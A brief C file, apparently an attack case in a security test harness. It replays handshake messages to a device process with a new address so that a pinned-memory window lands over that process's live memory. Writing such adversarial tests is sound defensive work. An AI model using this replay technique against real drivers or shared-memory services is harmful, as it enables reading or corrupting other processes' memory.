/* Tries to meet the device process again, with another address for the window of pinned memory.
 * Gains a window that is mapped over the memory of the device process while it is in use. */
#include "parts/wire.h"

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    for (int i = 0; i < 3; i++) {
        w_note_out(w_socket(), i ? W_MAPPED : W_HELLO, 0, 0x7d0000000000);
        usleep(10000);
    }
    return LAB_SUCCESS;
}
